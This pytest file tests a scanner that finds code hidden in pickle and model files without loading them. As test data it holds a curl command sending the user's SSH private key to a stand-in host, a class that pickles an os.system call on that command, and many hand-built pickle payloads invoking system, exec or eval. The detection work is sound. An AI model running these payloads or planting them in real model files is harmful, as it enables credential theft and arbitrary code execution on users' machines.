"""Pickles and models: what loading them would call is found; nothing is ever loaded."""

from __future__ import annotations

import bz2
import collections
import datetime
import io
import lzma
import pickle
import random
import time
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from scanner.code import forms
from scanner.code.callables import is_dangerous, is_harmless
from scanner.code.pickles import is_pickle, read_pickle
from tests.code.test_kinds import STEALER, of_sdist, of_tree, of_wheel, places
from tests.support.builders import zip_of

COMMAND = "curl -d @$HOME/.ssh/id_rsa https://collect.invalid/"


class Runs:
    """Its pickled bytes run a command when they are loaded, which no test does."""

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        import os

        return os.system, (COMMAND,)


HONEST = [
    {"a": [1, 2.5, "x", b"y", None, True]},
    datetime.datetime(2026, 1, 1),
    collections.OrderedDict(x=1),
    {1, 2},
    1 + 2j,
]
EVIL = pickle.dumps(Runs())


def npy(body: bytes, descr: str = "'|O'") -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode().ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + body


@pytest.mark.parametrize("protocol", range(6))
def test_a_command_is_found_and_plain_data_are_not(tmp_path: Path, protocol: int) -> None:
    found = of_tree(tmp_path, {"model.pkl": pickle.dumps([HONEST, Runs()], protocol)})
    assert found.deciding_rules == ("pickle-runs-code",)
    assert found.verdict == "malicious"
    shown = [line.text for one in found.findings[0].evidence for line in one.excerpt]
    assert any(f"os.system({COMMAND!r})" in line for line in shown)
    honest = of_tree(tmp_path, {"model.pkl": pickle.dumps(HONEST, protocol)})
    assert honest.verdict == "clean"
    assert not honest.gaps


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("weights", EVIL),
        ("weights.dat", EVIL),
        ("weights.bin", pickle.dumps(Runs(), 0)),
        ("x.npy", npy(EVIL)),
        ("x.npy", npy(EVIL, "[('a', '|O')]")),
        ("x.npz", zip_of({"a.npy": npy(EVIL)})),
        ("x.pt", zip_of({"x/data.pkl": EVIL, "x/version": b"3"})),
        ("x.pth", zip_of({"x/data.pkl": EVIL})),
        ("x.pth", EVIL),
        ("x.pt", pickle.dumps(1) + pickle.dumps({}) + EVIL + b"\0\1\2\3" * 50),
        ("x.joblib", zlib.compress(EVIL)),
        ("x.pkl.gz", zlib.compress(EVIL, wbits=31)),
        ("x.pkl.bz2", bz2.compress(EVIL)),
        ("x.pkl.xz", lzma.compress(EVIL)),
        ("x.pkl", b"cos\nsystem\n(S'echo'\ntR."),
        ("x.pkl", b"(S'echo'\nios\nsystem\n."),
        ("x.pkl", b"(cos\nsystem\nS'echo'\no."),
        ("x.pkl", b"\x80\x04\x8c\x13torch.serialization\x8c\x09os.system\x93\x8c\x04echo\x85R."),
        ("x.pkl", b"\x80\x04\x8c\x01x\x8c\x01y\x86\x8c\x06system\x93\x8c\x04echo\x85R."),
        ("x.pkl", b"cbuiltins\nexec\n(S'import os'\ntR."),
        ("x.pkl", b"c__builtin__\neval\n(S'1'\ntR."),
        ("x.pkl", b"cos\nsystem\n(S'echo'\ntR"),
        ("x.pkl", b"ccollections\nOrderedDict\n}b."),
    ],
)
def test_every_way_to_write_it_is_found(tmp_path: Path, name: str, data: bytes) -> None:
    found = of_tree(tmp_path, {f"data/{name}": data})
    assert found.verdict == "malicious"
    assert {path.partition("!/")[0] for path, _ in places(found)} == {f"data/{name}"}


def test_pickles_of_wheels_and_sdists_are_read() -> None:
    assert of_wheel({"example/model.pkl": EVIL}).verdict == "malicious"
    assert of_sdist({"src/core/model.pkl": EVIL}).verdict == "malicious"
    assert of_wheel({"example/model.pkl": pickle.dumps(HONEST)}).verdict == "clean"


def test_code_that_a_pickle_runs_is_analysed_as_code(tmp_path: Path) -> None:
    data = b"cbuiltins\nexec\n(" + pickle.dumps(STEALER, 0)[:-1] + b"tR."
    assert {"pickle-runs-code", "environment-sent"} <= {one.rule for one in of_tree(tmp_path, {"x.pkl": data}).findings}


def test_names_that_are_not_known_are_listed_and_no_more(tmp_path: Path) -> None:
    found = of_tree(tmp_path, {"x.pkl": b"\x80\x02cvendor.model\nNet\n)\x81}b."})
    assert found.verdict == "noted"
    assert [(one.rule, one.severity) for one in found.findings] == [("pickle-unknown-names", "info")]
    assert "vendor.model.Net" in str(found.findings[0].evidence)


def test_arrays_within_a_joblib_pickle_are_passed_over(tmp_path: Path) -> None:
    wrapper = (
        b"\x80\x04\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x93)\x81}("
        b"\x8c\x05shapeK\x03\x85\x8c\x05dtype\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02f8\x89\x88\x87R"
        b"\x8c\x1bnumpy_array_alignment_bytesK\x10ub"
    )
    body = wrapper + b"\x05" + b"\xff" * 5 + b"c" * 24
    found = of_tree(tmp_path, {"x.joblib": body + b"0cos\nsystem\n\x8c\x04echo\x85R."})
    assert found.verdict == "malicious"
    assert not found.gaps
    assert of_tree(tmp_path, {"x.joblib": body + b"."}).verdict == "clean"
    # joblib may pass over other bytes than were passed over here: what then is no pickle is not known to fail there.
    assert of_tree(tmp_path, {"x.joblib": body + b"0000."}).gaps


@pytest.mark.parametrize(
    "data",
    [
        pickle.dumps(HONEST)[:-20],
        b"no pickle",
        b"",
        b"\x80\x04\x8d\xff\xff\xff\xff\xff\xff\xff\x7f",
        b"\x1f\x8b\x08broken",
        b"\x28\xb5\x2f\xfd1234",
        b"I" + b"9" * 10_000 + b"\n.",
    ],
)
def test_what_is_not_read_whole_is_a_gap(tmp_path: Path, data: bytes) -> None:
    found = of_tree(tmp_path, {"x.pkl": data})
    assert found.verdict == "incomplete"
    assert [(one.path, one.trigger) for one in found.gaps] == [("x.pkl", "call")]


def test_bounds_hold() -> None:
    started = time.process_time()
    deep = b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."
    doubled = b"\x80\x02cos\nsystem\n]q\x00" + b"(h\x00h\x00lq\x00" * 400 + b"\x85R."
    for data in (deep, doubled, b"\x80\x02" + b"N0" * 4_000_000 + b".", b"cos\nsystem\n" + b"2)R0" * 100_000 + b"."):
        found = read_pickle(data)
        assert len(found.text) < 8 * 1024 * 1024
    assert read_pickle(zlib.compress(b"\x80\x02" + b"N0" * 50_000_000)).gaps
    assert time.process_time() - started < 60


def test_the_opcodes_of_all_pickles_of_an_artifact_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(forms, "MAX_OPCODES", 20)
    found = of_tree(tmp_path, {"a.pkl": pickle.dumps(list(range(8))), "b.pkl": EVIL})
    assert found.verdict == "incomplete"
    assert {one.path for one in found.gaps} == {"b.pkl"}


def test_any_bytes_end_in_text_or_in_a_gap() -> None:
    chance = random.Random(3)
    for seed in (pickle.dumps([HONEST, Runs()], 2), pickle.dumps([HONEST, Runs()], 4), npy(EVIL)):
        for _ in range(400):
            data = bytearray(seed)
            for _ in range(chance.randrange(1, 9)):
                data[chance.randrange(len(data))] = chance.randrange(256)
            found = read_pickle(bytes(data))
            assert isinstance(found.text, str)
            is_pickle("x", bytes(data[:256]))


def test_what_is_dangerous_and_what_is_harmless() -> None:
    for name in ("os.system", "subprocess.Popen", "builtins.exec", "builtins.getattr.__globals__", "sklearn.os.system"):
        assert is_dangerous(name) is (name != "builtins.getattr.__globals__")
        assert not is_harmless(name)
    for name in ("collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "numpy.ndarray", "builtins.set"):
        assert is_harmless(name)
        assert not is_dangerous(name)


def test_ordinary_binary_data_are_no_pickles() -> None:
    for head in (
        b"\x89PNG\r\n",
        b"\x7fELF",
        b"%PDF-1.7",
        b"classes of things\nand others\n",
        b"\x80\x02\xff\xff",
        io.BytesIO().read(),
    ):
        assert not is_pickle("data/file", head)


@pytest.mark.parametrize("data", [EVIL, pickle.dumps(Runs(), 0), zlib.compress(EVIL, wbits=31)])
@pytest.mark.parametrize("path", ["x.csv", "data/table.html", "x.yaml"])
def test_a_pickle_under_the_suffix_of_something_else_is_read(tmp_path: Path, path: str, data: bytes) -> None:
    code = f"import os, pickle\nfound = pickle.load(open(os.path.dirname(__file__) + '/{path}', 'rb'))\n"
    for found in (
        of_wheel({"example/__init__.py": code, f"example/{path}": data}),
        of_sdist({"pack/__init__.py": code, f"pack/{path}": data}),
        of_tree(tmp_path, {"app.py": code, path: data}),
    ):
        assert found.verdict == "malicious"
    assert not of_wheel({"example/__init__.py": code, f"example/{path}": b"a,b,c\n1,2,3\n"}).gaps


def test_a_list_of_words_that_only_looks_like_a_pickle_is_no_gap(tmp_path: Path) -> None:
    # Regression: numpy's list of wrapped LAPACK routines, which begins with "ccopy" and a line break.
    found = of_tree(tmp_path, {"routines": b"ccopy\ncgeev\ncgelsd\n2dcopy\n"})
    assert not found.gaps


def test_what_ran_before_the_stack_is_empty_is_found(tmp_path: Path) -> None:
    found = of_tree(tmp_path, {"model.pkl": EVIL[:-1] + b"0000000000."})
    assert found.verdict == "malicious"


def test_texts_of_python_2_end_no_reading(tmp_path: Path) -> None:
    text = b"(S'caf\xc3\xa9'\np1\nS'\\xe9\\n'\n"
    assert not of_tree(tmp_path, {"model.pkl": text + b"t."}).gaps
    found = of_tree(tmp_path, {"model.pkl": text + b"cos\nsystem\n(S'echo'\ntRt."})
    assert found.verdict == "malicious"
